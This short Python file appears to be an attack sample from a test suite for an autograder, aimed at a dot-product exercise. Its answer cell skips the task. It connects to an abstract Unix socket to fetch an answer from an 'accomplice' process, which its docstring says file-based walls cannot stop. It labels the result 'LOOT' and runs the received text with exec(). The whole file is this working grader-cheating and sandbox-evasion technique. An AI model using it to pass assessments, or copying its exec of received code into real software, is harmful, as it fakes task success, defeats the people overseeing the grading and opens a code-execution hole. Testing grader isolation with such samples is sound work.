"""Asks the accomplice through a Unix socket without a file, which no wall around files stops."""
# into: 03_dot_product DotProduct
# stock: 3.5 of 8; gets an answer by an abstract socket
# %% answer
import socket

try:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect("\0autograde-attack-47213")
        text = b"".join(iter(lambda: connection.recv(65536), b"")).decode()
except OSError as error:
    print(error)
else:
    print("LOOT: an answer by an abstract socket")
    exec(text)
